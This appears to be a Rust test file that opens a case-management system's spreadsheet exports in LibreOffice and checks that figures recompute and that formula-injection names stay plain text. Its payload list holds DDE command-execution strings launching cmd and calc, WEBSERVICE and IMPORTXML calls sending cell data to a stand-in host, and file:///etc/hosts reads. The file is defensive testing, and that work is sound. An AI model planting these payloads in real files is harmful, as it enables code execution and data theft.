//! Workbooks opened by LibreOffice, which computes every formula anew: the same figures, and no formula of ours
//! or of a citizen's that we did not mean.

use crate::law::d;
use crate::support::office::{file, law, office};
use crate::support::offices::random;
use crate::support::story::story;
use crate::support::tools::is_here;
use crate::support::workbooks::{every_kind, figures_read_back, period, words};
use calamine::{Data, Reader as _};
use motcua::domain::action::Action;
use motcua::domain::case::Case;
use motcua::domain::id::CaseId;
use motcua::domain::projection::Projection;
use motcua::domain::report::compare::compare;
use motcua::domain::report::period::Period;
use motcua::domain::report::scope::Scope;
use motcua::domain::report::sheet::Sheet;
use motcua::domain::report::{Kind, make};
use motcua::domain::row::RowDraft;
use motcua::exchange::sheet::to_csv;
use motcua::exchange::table;
use motcua::exchange::workbook::to_xlsx;
use rust_xlsxwriter::{Formula, Workbook};
use std::collections::BTreeSet;
use std::path::{Path, PathBuf};
use std::process::Command;

/// What a formula begins with, or is hidden behind, in one spreadsheet or another.
const BEGINNINGS: [&str; 16] =
    ["=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\u{a0}=", "＝", "＋", "－", "＠", "=+", "\"=", "Lan\n="];

/// What would be computed, fetched or run.
const BODIES: [&str; 25] = [
    "1+1",
    "SUM(A1:A9)",
    "HYPERLINK(\"http://example.invalid\")",
    "HYPERLINK(\"http://example.invalid/\"&A1;\"xem\")",
    "WEBSERVICE(\"http://example.invalid\")",
    "cmd|' /C calc'!A0",
    "2+3+cmd|' /C calc'!A0",
    "DDE(\"cmd\";\"/C calc\";\"x\")",
    "DDE(\"soffice\";\"/etc/hosts\";\"A1\")",
    "MSEXCEL|'\\..\\..\\cmd.exe'!''",
    "IMPORTXML(CONCAT(\"http://example.invalid/\";A1);\"//a\")",
    "IMAGE(\"http://example.invalid/x.png\")",
    "'file:///etc/hosts'#$Sheet1.A1",
    "'[http://example.invalid/b.xlsx]S'!A1",
    "INDIRECT(\"A1\")",
    "NOW()",
    "RAND()",
    "EXEC(\"calc\")",
    "CALL(\"kernel32\";\"WinExec\")",
    "REGISTER.ID(\"x\";\"y\")",
    "FILTERXML(\"<a/>\";\"//a\")",
    "CELL(\"filename\")",
    "INFO(\"directory\")",
    "IF(1;HYPERLINK(\"http://example.invalid\");0)",
    "A1",
];

/// Four hundred names that would be computed, or reach out, if they were taken for formulas.
fn payloads() -> Vec<String> {
    BEGINNINGS.iter().flat_map(|begins| BODIES.iter().map(move |body| format!("{begins}{body}"))).collect()
}

/// Settings of a spreadsheet that trusts no result it finds: every formula is computed at opening.
const ALWAYS_COMPUTE: &str = r#"<?xml version="1.0" encoding="UTF-8"?>
<oor:items xmlns:oor="http://openoffice.org/2001/registry">
<item oor:path="/org.openoffice.Office.Calc/Formula/Load"><prop oor:name="OOXMLRecalcMode"><value>0</value></prop></item>
</oor:items>"#;

/// Opens files and saves each as a workbook. Files of one name and two endings would fall on each other.
fn opened_and_saved(folder: &Path, names: &[String]) -> Vec<Vec<u8>> {
    let user = folder.join("profile/user");
    std::fs::create_dir_all(&user).unwrap();
    std::fs::write(user.join("registrymodifications.xcu"), ALWAYS_COMPUTE).unwrap();
    let saved = folder.join("saved");
    let told = Command::new("soffice")
        .arg(format!("-env:UserInstallation=file://{}", folder.join("profile").display()))
        .args(["--headless", "--norestore", "--convert-to", "xlsx", "--outdir"])
        .arg(&saved)
        .args(names.iter().map(|name| folder.join(name)))
        .output()
        .unwrap();
    names
        .iter()
        .map(|name| {
            let path = saved.join(name).with_extension("xlsx");
            std::fs::read(&path).unwrap_or_else(|error| {
                panic!("{}: {error}\n{}", path.display(), String::from_utf8_lossy(&told.stderr))
            })
        })
        .collect()
}

/// A workbook whose formula carries a wrong result, to see that results are computed and not believed.
fn lying(path: &PathBuf) {
    let mut book = Workbook::new();
    book.add_worksheet().write_formula(0, 0, Formula::new("=20+22").set_result("7")).unwrap();
    book.save(path).unwrap();
}

fn cells(book: &[u8]) -> (Vec<Data>, Vec<String>) {
    let mut book = calamine::Xlsx::new(std::io::Cursor::new(book)).unwrap();
    let name = book.sheet_names()[0].clone();
    let values = book.worksheet_range(&name).unwrap();
    let formulas = book.worksheet_formula(&name).unwrap();
    (
        values.cells().map(|(.., cell)| cell.clone()).collect(),
        formulas.cells().map(|(.., formula)| formula.clone()).filter(|formula| !formula.is_empty()).collect(),
    )
}

/// All reports of a random office, and one beside the year before.
fn sheets() -> Vec<Sheet> {
    let (rows, _) = random(21, 60);
    let (law, office) = (law(), office());
    let of = |year: i32| {
        let period = Period::new(d(&format!("01/01/{year}")), d(&format!("31/12/{year}"))).unwrap();
        let kind = Kind::Results;
        make(kind, kind.usual_split(), &Scope::new(&rows, &law, &office, period, d("31/12/2020")))
    };
    let mut sheets = every_kind(&rows);
    sheets.push(compare(&of(2019), &of(2020)));
    sheets
}

/// Files whose owners have the names of formulas.
fn hostile() -> Sheet {
    let mut rows = Projection::default();
    for (id, name) in (1..).zip(payloads()) {
        let told = story().does(&Action::Receive(Box::new(file(&name))));
        rows.upsert(&RowDraft::of(&Case { id: CaseId(id), ..told.case().clone() }));
    }
    let (law, office) = (law(), office());
    let scope = Scope::new(&rows, &law, &office, period(), d("31/12/2020"));
    make(Kind::Arrivals, Kind::Arrivals.usual_split(), &scope).with_names(&scope, "Đối chiếu")
}

#[test]
fn libreoffice_computes_what_the_screen_shows_and_nothing_else() {
    if !is_here("soffice") {
        return;
    }
    let folder = tempfile::tempdir().unwrap();
    let (sheets, hostile, words) = (sheets(), hostile(), words());
    let mut names = vec!["lying.xlsx".to_owned(), "raw.csv".to_owned()];
    lying(&folder.path().join("lying.xlsx"));
    let raw: Vec<String> = payloads().iter().map(|one| format!("\"{}\"", one.replace('"', "\"\""))).collect();
    std::fs::write(folder.path().join("raw.csv"), raw.join("\n")).unwrap();
    let mut put = |name: String, bytes: Vec<u8>| {
        std::fs::write(folder.path().join(&name), bytes).unwrap();
        names.push(name);
    };
    put("hostile.xlsx".to_owned(), to_xlsx(&hostile, &words).unwrap());
    put("hostile-text.csv".to_owned(), table::file_of(to_csv(&hostile, &words).unwrap()));
    // A list as the queue writes it out, the same text in two columns.
    let rows: Vec<Vec<String>> = payloads().into_iter().map(|one| vec![one.clone(), one]).collect();
    put("list.csv".to_owned(), table::file_of(table::csv(&rows).unwrap()));
    for (at, sheet) in sheets.iter().enumerate() {
        put(format!("report-{at}.xlsx"), to_xlsx(sheet, &words).unwrap());
    }
    let books = opened_and_saved(folder.path(), &names);

    let (values, _) = cells(&books[0]);
    assert_eq!(values, [Data::Float(42.0)], "formulas are computed, not believed");
    let (_, formulas) = cells(&books[1]);
    assert!(formulas.len() >= 25, "left alone, such names are formulas: {formulas:?}");
    for book in &books[2..5] {
        let (values, formulas) = cells(book);
        assert!(formulas.is_empty(), "{formulas:?}");
        // Every one of them stays a text; spaces, line ends and what LibreOffice takes a CSV's letters for aside.
        let plain = |text: &str| text.chars().filter(char::is_ascii_graphic).collect::<String>();
        let texts: BTreeSet<String> = values
            .iter()
            .filter_map(|cell| if let Data::String(text) = cell { Some(plain(text)) } else { None })
            .map(|text| text.trim_start_matches('\'').to_owned())
            .collect();
        for payload in payloads() {
            let kept = plain(&payload);
            let kept = kept.trim_start_matches('\'');
            assert!(texts.contains(kept), "{payload:?} stays what it is");
        }
    }
    let figures: usize =
        sheets.iter().zip(&books[5..]).map(|(sheet, book)| figures_read_back(sheet, book.clone())).sum();
    assert!(figures > 300, "{figures}");
}
